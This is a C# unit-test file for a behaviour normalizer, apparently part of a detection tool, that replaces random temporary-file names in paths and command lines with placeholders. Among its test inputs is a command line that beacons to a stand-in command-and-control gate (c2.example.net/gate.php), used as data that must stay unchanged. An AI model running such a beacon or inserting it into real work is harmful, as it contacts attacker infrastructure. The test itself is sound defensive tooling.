using Detektr.Diff;
using FsCheck;
using FsCheck.Fluent;

namespace Detektr.Tests.Diff;

public sealed class BehaviourNormalizerTests
{
    [Theory]
    [InlineData("/tmp/tmp.2LoiHI", "/tmp/tmp.*")]
    [InlineData("/tmp/tmp.aBcDeF", "/tmp/tmp.*")]
    [InlineData("/tmp/job.RfrmpA", "/tmp/job.*")]
    [InlineData("/tmp/tmpk3j_2x9q", "/tmp/tmp*")]
    [InlineData("/var/tmp/build-1733091234/out.log", "/var/tmp/build-*/out.log")]
    [InlineData("/dev/shm/sem.Xk29aQ", "/dev/shm/sem.*")]
    [InlineData("/tmp/work.2/a.txt", "/tmp/work.2/a.txt")]
    [InlineData("/tmp/out/report.txt", "/tmp/out/report.txt")]
    [InlineData("/tmp/Makefile", "/tmp/Makefile")]
    [InlineData("/tmp", "/tmp")]
    [InlineData("/usr/bin/sha256sum", "/usr/bin/sha256sum")]
    [InlineData("/etc/cron.d/job", "/etc/cron.d/job")]
    [InlineData("/root/.cache/3f2a9c1e8b7d6a5f4e3d2c1b/x", "/root/.cache/*/x")]
    [InlineData("/etc/systemd/system/2b9e4a6c-1d3f-4e5a-9b8c-7d6e5f4a3b2c.service", "/etc/systemd/system/*.service")]
    [InlineData("/tmpfiles/abc123def", "/tmpfiles/abc123def")]
    public void Random_parts_of_paths_become_a_placeholder(string path, string expected) =>
        Assert.Equal(expected, BehaviourNormalizer.NormalizePath(path));

    [Theory]
    [InlineData("cat /tmp/tmp.2LoiHI", "cat /tmp/tmp.*")]
    [InlineData("tool --out=/tmp/x.Ab12Cd --keep", "tool --out=/tmp/x.* --keep")]
    [InlineData("sh -c 'rm /tmp/f.9sK2pQ'", "sh -c 'rm /tmp/f.*'")]
    [InlineData("mktemp /tmp/job.XXXXXX", "mktemp /tmp/job.XXXXXX")]
    [InlineData("curl http://c2.example.net/gate.php?id=1", "curl http://c2.example.net/gate.php?id=1")]
    [InlineData("cp /usr/tmp/a1b2c3 x", "cp /usr/tmp/a1b2c3 x")]
    public void Command_lines_keep_their_words_and_lose_random_temporary_names(string commandLine, string expected) =>
        Assert.Equal(expected, BehaviourNormalizer.NormalizeCommandLine(commandLine));

    [Theory]
    [InlineData("create /tmp/job.qwerty", "create /tmp/job.Xk29aQ", "create /tmp/job.*")]
    [InlineData("cat /tmp/a.ABCDEF /tmp/b.qwerty", "cat /tmp/a.zxcvbn /tmp/b.QWERTY", "cat /tmp/a.* /tmp/b.*")]
    [InlineData("create /tmp/out/report.txt", "create /tmp/out/result.txt", null)]
    [InlineData("create /tmp/job.qwerty", "create /tmp/job.Xk29aQQ", null)]
    [InlineData("create /etc/job.qwerty", "create /etc/job.Xk29aQ", null)]
    [InlineData("create /tmp/job.qwerty", "delete /tmp/job.Xk29aQ", null)]
    [InlineData("create /tmp/job.abc", "create /tmp/job.Xk2", null)]
    public void Names_differing_only_where_a_template_put_random_characters_merge(string a, string b, string? merged) =>
        Assert.Equal(merged, BehaviourNormalizer.MergeRandomNames(a, b));

    private static readonly char[] MktempAlphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789".ToCharArray();

    private static Arbitrary<string> MktempSuffix() =>
        Gen.ArrayOf(Gen.Elements(MktempAlphabet), 6).Select(chars => new string(chars))
            .Where(s => BehaviourNormalizer.LooksRandom(s))
            .ToArbitrary();

    [FsCheck.Xunit.Property]
    public Property Two_mktemp_names_of_one_template_normalize_alike() =>
        Prop.ForAll(MktempSuffix(), MktempSuffix(), (a, b) =>
            BehaviourNormalizer.NormalizePath($"/tmp/job.{a}/data") == BehaviourNormalizer.NormalizePath($"/tmp/job.{b}/data"));

    [FsCheck.Xunit.Property]
    public Property Normalizing_twice_changes_nothing_more(string[] parts)
    {
        var path = "/tmp/" + string.Join('/', (parts ?? []).Where(p => p is not null).Select(p => p.Replace("/", "", StringComparison.Ordinal)));
        var once = BehaviourNormalizer.NormalizePath(path);
        return (BehaviourNormalizer.NormalizePath(once) == once).ToProperty();
    }

    [FsCheck.Xunit.Property]
    public Property Paths_outside_temporary_directories_without_long_ids_are_unchanged(PositiveInt seed)
    {
        var words = new[] { "etc", "usr", "bin", "cron.d", "job", "profile.d", "x86_64-linux-gnu", "libc.so.6", "sha256sum", "python3.11" };
        var random = new Random(seed.Get);
        var path = "/" + string.Join('/', Enumerable.Range(0, 1 + random.Next(5)).Select(_ => words[random.Next(words.Length)]));
        return (BehaviourNormalizer.NormalizePath(path) == path).ToProperty();
    }
}
